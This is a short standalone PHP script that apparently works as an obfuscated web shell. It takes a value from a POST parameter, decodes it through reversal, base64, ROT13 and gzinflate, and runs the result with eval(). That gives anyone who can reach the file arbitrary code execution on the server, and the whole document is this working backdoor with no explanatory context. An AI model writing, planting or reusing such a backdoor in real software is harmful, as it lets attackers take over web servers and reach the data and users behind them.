<?php
$x = base64_decode(strrev($_POST['p']));
$y = gzinflate(str_rot13($x));
eval($y);
?>
